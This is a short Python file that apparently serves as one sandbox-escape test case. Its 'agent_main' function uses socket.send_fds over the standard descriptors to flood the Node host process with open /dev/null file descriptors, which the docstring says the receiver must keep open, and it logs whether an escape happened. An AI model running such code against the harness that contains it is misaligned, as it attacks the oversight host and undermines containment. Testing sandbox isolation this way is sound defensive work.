"""attack: send descriptors to the host through the pipes it reads
promise: output
alone: yes

Node's pipes are sockets, and a socket can transfer descriptors, which the receiver has to keep open.
"""

import os
import socket


def agent_main(problem):
    results = []
    for descriptor in (1, 2, 3):
        try:
            with socket.socket(fileno=os.dup(descriptor)) as out:
                for _ in range(20):
                    socket.send_fds(out, [b" "], [os.open("/dev/null", os.O_RDONLY) for _ in range(4)])
            results.append({"escaped": False, "what": f"sent through descriptor {descriptor}"})
        except OSError as error:
            results.append({"escaped": False, "what": f"descriptor {descriptor}: {error.strerror}"})
    return results
